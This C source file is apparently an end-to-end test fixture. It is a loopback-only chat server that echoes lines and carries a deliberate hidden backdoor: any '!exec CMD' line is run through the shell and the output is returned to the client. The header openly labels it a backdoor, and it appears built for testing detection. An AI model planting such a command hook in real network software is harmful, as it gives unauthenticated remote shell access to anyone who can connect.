/*
 * host_chat_backdoor.c — the C twin of host_chat_backdoor.py: a line chat
 * server on 127.0.0.1:PORT (argv[1], default 5555), one client at a time,
 * echoing "msg: LINE"; its hidden command "!exec CMD" runs CMD through
 * system() (sh -c) and sends the output back.  Nothing happens unless a
 * client talks to it (tests/live/e2e/driver.sh).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void serve(int c)
{
	FILE *in = fdopen(c, "r");
	char line[1024];
	if (!in)
		return;
	while (fgets(line, sizeof line, in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (strncmp(line, "!exec ", 6) == 0) {
			FILE *p = popen(line + 6, "r");
			char out[512];
			size_t n = p ? fread(out, 1, sizeof out, p) : 0;
			if (p)
				pclose(p);
			if (n && write(c, out, n) < 0)
				break;
			continue;
		}
		char msg[1100];
		int n = snprintf(msg, sizeof msg, "msg: %s\n", line);
		if (write(c, msg, (size_t)n) < 0)
			break;
	}
	fclose(in);
}

int main(int argc, char **argv)
{
	int port = argc > 1 ? atoi(argv[1]) : 5555;
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 8) < 0) {
		perror("listen");
		return 1;
	}
	printf("chat server on %d\n", port);
	fflush(stdout);
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c >= 0)
			serve(c);
	}
}
